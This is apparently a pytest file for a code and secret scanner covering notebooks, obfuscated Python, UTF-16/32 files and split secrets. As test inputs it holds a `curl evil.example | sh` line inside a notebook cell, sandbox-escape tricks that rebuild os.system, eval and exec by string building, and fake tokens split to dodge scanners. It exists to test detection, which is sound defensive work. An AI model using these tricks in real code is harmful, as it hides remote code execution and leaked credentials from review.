"""Code and text in the forms that hide it: notebooks, obfuscated Python, UTF-16/32 text
and secrets split across string literals.

The harmful samples follow public write-ups (notebook cells that shell out or carry
tokens in their outputs; the `getattr(os, 'sys' + 'tem')` and `__builtins__` tricks
of Python sandbox escapes; tokens split to dodge secret scanners). Every token is
fake, made from a seeded RNG, with its prefix split so this file never matches.
"""

from __future__ import annotations

import ast
import base64
import dataclasses
import inspect
import io
import json
import random
import string
import subprocess

import pytest

from amphub.scan import code
from amphub.scan.dispatch import scan_blob
from amphub.scan.findings import FileVerdict
from amphub.scan.text import scan_text

ALNUM = string.ascii_letters + string.digits


def fake(key: str, n: int) -> str:
    rng = random.Random(key)
    return "".join(rng.choice(ALNUM) for _ in range(n))


GH_TOKEN = "gh" + "p_" + fake("nb", 36)
HF_TOKEN = "h" + "f_" + fake("hf", 34)


def scan(data: bytes, path: str) -> FileVerdict:
    return scan_blob(path, lambda: io.BytesIO(data), len(data))


def messages(verdict: FileVerdict) -> str:
    return "\n".join(f.message for f in verdict.findings)


# --- notebooks --------------------------------------------------------------------


def notebook(*cells: dict) -> bytes:
    doc = {"cells": list(cells), "metadata": {"kernelspec": {"name": "python3"}}}
    return json.dumps(doc | {"nbformat": 4, "nbformat_minor": 5}, indent=1).encode()


def code_cell(source: str, outputs: list | None = None) -> dict:
    lines = source.splitlines(keepends=True)
    return {"cell_type": "code", "source": lines, "outputs": outputs or [], "metadata": {}}


def markdown_cell(source: str) -> dict:
    return {"cell_type": "markdown", "source": source.splitlines(keepends=True), "metadata": {}}


PNG = base64.b64encode(random.Random("png").randbytes(30_000)).decode()


def test_notebook_code_cells_go_through_the_python_checks():
    nb = notebook(
        markdown_cell("# Training\n"),
        code_cell("!pip install torch\nimport os\n"),
        code_cell("x = 1\nos.system('curl evil.example | sh')\n"),
    )
    verdict = scan(nb, "train.ipynb")
    assert verdict.status == "unsafe", verdict
    assert "cell 3, line 2: `os.system` runs a shell command" in messages(verdict)


def test_notebook_secrets_in_sources_and_outputs_are_found():
    printed = {"output_type": "stream", "name": "stdout", "text": [f"token: {GH_TOKEN}\n"]}
    nb = notebook(code_cell("print(login())\n", [printed]))
    verdict = scan(nb, "demo.ipynb")
    assert verdict.status == "unsafe" and "cell 1 output" in messages(verdict), verdict
    nb = notebook(code_cell(f'HF_TOKEN = "{HF_TOKEN}"\n'))
    assert "Hugging Face token" in messages(scan(nb, "demo.ipynb"))


def test_a_clean_notebook_with_images_is_safe():
    image = {"output_type": "display_data", "data": {"image/png": PNG, "text/plain": ["<Fig>"]}}
    nb = notebook(
        markdown_cell("# Evaluate\nLoad the weights and plot the loss.\n"),
        code_cell("%matplotlib inline\nimport torch\nimport matplotlib.pyplot as plt\n"),
        code_cell("state = torch.load('model.pt', weights_only=True)\nplt.plot([1, 2])\n", [image]),
        code_cell("%%bash\nls -l\n"),
    )
    verdict = scan(nb, "eval.ipynb")
    assert verdict.status == "safe", verdict


# --- obfuscated Python ------------------------------------------------------------

OBFUSCATED = [
    ("getattr-concat", "import os\ngetattr(os, 'sys' + 'tem')('id')", "dangerous"),
    ("getattr-fstring", "import os\nx = 'tem'\ngetattr(os, f'sys{x}')('id')", "dangerous"),
    ("getattr-join", "import os\ngetattr(os, ''.join(['sy', 'st', 'em']))('id')", "dangerous"),
    ("getattr-reversed", "import os as o\ngetattr(o, 'metsys'[::-1])('id')", "dangerous"),
    ("getattr-chr", "import os\ngetattr(os, 'sys' + chr(116) + 'em')('id')", "dangerous"),
    ("getattr-unresolved", "import os\nname = input()\ngetattr(os, name)('id')", "suspicious"),
    ("builtins-dict", "__builtins__.__dict__['ex' + 'ec'](payload)", "dangerous"),
    ("builtins-subscript", "__builtins__['ev' + 'al'](payload)", "dangerous"),
    ("vars-builtins", "import builtins\nvars(builtins)['ev' + 'al'](payload)", "dangerous"),
    ("globals-builtins", "b = globals()['__builtins__']", "suspicious"),
    ("globals-eval", "globals()['ev' + 'al'](payload)", "dangerous"),
    ("importlib-computed", "import importlib\nimportlib.import_module(name)", "suspicious"),
    ("importlib-alias", "from importlib import import_module as im\nim(n)", "suspicious"),
    (
        "kwargs-shell",
        "import subprocess\nopts = dict(shell=True)\nsubprocess.run(cmd, **opts)",
        "dangerous",
    ),
    (
        "kwargs-literal",
        "import subprocess\nsubprocess.Popen(cmd, **{'shell': True})",
        "dangerous",
    ),
    (
        "kwargs-subscript",
        "import subprocess\nkw = {}\nkw['shell'] = True\nsubprocess.call(cmd, **kw)",
        "dangerous",
    ),
    ("eval-alias", "e = eval\ne(payload)", "dangerous"),
    ("eval-alias-builtins", "import builtins\nrun = builtins.exec\nrun(payload)", "dangerous"),
    ("getattr-alias", "import os\nf = getattr(os, 'sys' + 'tem')\nf('id')", "dangerous"),
]


@pytest.mark.parametrize(
    ("source", "severity"), [c[1:] for c in OBFUSCATED], ids=[c[0] for c in OBFUSCATED]
)
def test_names_built_at_run_time_are_found_on_their_line(source, severity):
    findings = scan_text("model/modeling_custom.py", source.encode())
    last = source.count("\n") + 1
    assert any(f.severity == severity and f.line == last for f in findings), findings


HONEST_CODE = [
    "import logging\nlevel = getattr(logging, args.level.upper())",
    "import os\nhome = getattr(os, 'environ').get('HOME')",
    "import sys\nif getattr(sys, 'frozen', False):\n    pass",
    "model_cls = globals()[config.model_type]",
    "import subprocess\nsubprocess.run(cmd, **kwargs)",
    "import subprocess\nopts = dict(check=True)\nsubprocess.run(['ls'], **opts)",
    "import os\nsep = os.__dict__['sep']",
    "x = 'abc'[::-1] + chr(65)",
    "mod = sys.modules[__name__]",
]


@pytest.mark.parametrize("source", HONEST_CODE)
def test_honest_dynamic_code_is_not_reported(source):
    assert scan_text("train.py", source.encode()) == []


@pytest.mark.parametrize(
    "source",
    [
        "import importlib\nimportlib.reload(module)\n\ndef f(:\n",
        "def f(**kwargs):\n    return kwargs  # no shell\n\ndef g(:\n",
    ],
    ids=["importlib-without-import_module", "kwargs-without-True"],
)
def test_python_the_obfuscation_rules_cannot_match_is_not_parsed(source):
    # The importlib rule needs import_module, the **kwargs one shell and True: without
    # them the parse (most of the cost of a .py) is skipped, so the syntax error is unseen.
    assert scan_text("broken.py", source.encode()) == []


WALKED = """
@decorator(eval(a))
class C(Base, metaclass=meta(x)):
    async def f(self, a=b(), *, k=d[0]) -> r[int]:
        async with g() as h, i[j]:
            y = [z(q) for q in w if v(q)]
            match t(u):
                case {"k": [P(), *rest]} if guard(rest):
                    return f"{s(x)!r:>{n(y)}}"
        try:
            pass
        except* E(e) as err:
            lambda m=o(): m[p(1)]
        (walrus := x()[y])
"""


def test_the_tree_walk_finds_every_node_the_checks_read():
    kinds = (ast.Call, ast.Subscript, ast.Assign, ast.Import, ast.ImportFrom)
    sources = [WALKED] + [inspect.getsource(m) for m in (subprocess, dataclasses, ast)]
    for source in sources:
        tree = ast.parse(source)
        walked = [node for node in ast.walk(tree) if isinstance(node, kinds)]
        assert [node for node in code._nodes(tree) if isinstance(node, kinds)] == walked


def test_folding_deep_expressions_is_bounded():
    source = "import os\ngetattr(os, " + " + ".join(["'a'"] * 5000) + ")"
    findings = scan_text("x.py", source.encode())
    assert all(f.severity != "dangerous" for f in findings)
    nested = "import os\n" + "getattr(" * 150 + "os" + ", 'x')" * 150
    scan_text("y.py", nested.encode())  # no exception


# --- text in UTF-16 and UTF-32 ----------------------------------------------------

ENV_FILE = f"# deployment settings\nHF_HOME=/data/hf\nGITHUB_TOKEN={GH_TOKEN}\n"
ENCODINGS = ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be"]


@pytest.mark.parametrize("encoding", ENCODINGS)
def test_secrets_in_utf16_and_utf32_text_are_found_on_their_line(encoding):
    verdict = scan(ENV_FILE.encode(encoding), "deploy.env")
    assert verdict.status == "unsafe", verdict
    secrets = [f for f in verdict.findings if f.kind == "secret"]
    assert [(f.message, f.line) for f in secrets] == [("GitHub token found", 3)]


@pytest.mark.parametrize("encoding", ENCODINGS)
def test_utf16_and_utf32_text_without_secrets_is_safe(encoding):
    notes = "Model card notes\nTrained on 8 GPUs for 3 days; loss 1.82.\nCafé ünïcödé ✓\n"
    assert scan((notes * 20).encode(encoding), "NOTES.txt").status == "safe"


def test_small_integers_are_not_taken_for_utf16_text():
    int16 = b"".join(i.to_bytes(2, "little") for i in range(1, 31)) * 100
    assert scan(int16, "labels.dat").status == "skipped"
    int32 = b"".join(i.to_bytes(4, "little") for i in range(1, 31)) * 100
    assert scan(int32, "labels.dat").status == "skipped"


# --- secrets split across string literals -----------------------------------------

T = GH_TOKEN
SPLITS = [
    ("py-adjacent", "config.py", f'TOKEN = ("{GH_TOKEN[:10]}"\n         "{GH_TOKEN[10:]}")\n'),
    (
        "py-plus",
        "config.py",
        f'token = "{GH_TOKEN[:4]}" + "{GH_TOKEN[4:20]}" + "{GH_TOKEN[20:]}"\n',
    ),
    ("py-backslash", "config.py", f"token = '{GH_TOKEN[:6]}' \\\n    '{GH_TOKEN[6:]}'\n"),
    ("js-plus", "app.js", f"const token = '{GH_TOKEN[:8]}' +\n  '{GH_TOKEN[8:]}';\n"),
    ("js-template", "app.ts", f"const t = `{GH_TOKEN[:8]}` + `{GH_TOKEN[8:]}`;\n"),
    ("generic", "settings.py", 'api_key = "a8Fq2LzX" + "9wPm4RtK" + "c7Vb1NsJ"\n'),
]


@pytest.mark.parametrize(("path", "source"), [c[1:] for c in SPLITS], ids=[c[0] for c in SPLITS])
def test_a_secret_split_across_literals_is_reassembled(path, source):
    findings = [f for f in scan_text(path, source.encode()) if f.kind == "secret"]
    assert len(findings) == 1, findings
    assert "split across string literals" in findings[0].message
    assert findings[0].line == 1


def test_a_whole_secret_is_reported_once():
    source = f'TOKEN = "{GH_TOKEN}" + "\\n"\nOTHER = "a" "b"\n'
    findings = scan_text("x.py", source.encode())
    assert [(f.message, f.line) for f in findings] == [("GitHub token found", 1)]


@pytest.mark.parametrize(
    "source",
    [
        'msg = "Hello, " + name + "!"\n',
        'path = "models/" + "bert-base-uncased" + "/config.json"\n',
        'parser.add_argument("--token", help="your Hugging Face " "access token")\n',
        "const url = 'https://huggingface.co/' + repo + '/resolve/main/' + file;\n",
    ],
)
def test_joined_ordinary_strings_are_not_reported(source):
    assert scan_text("x.py", source.encode()) == []
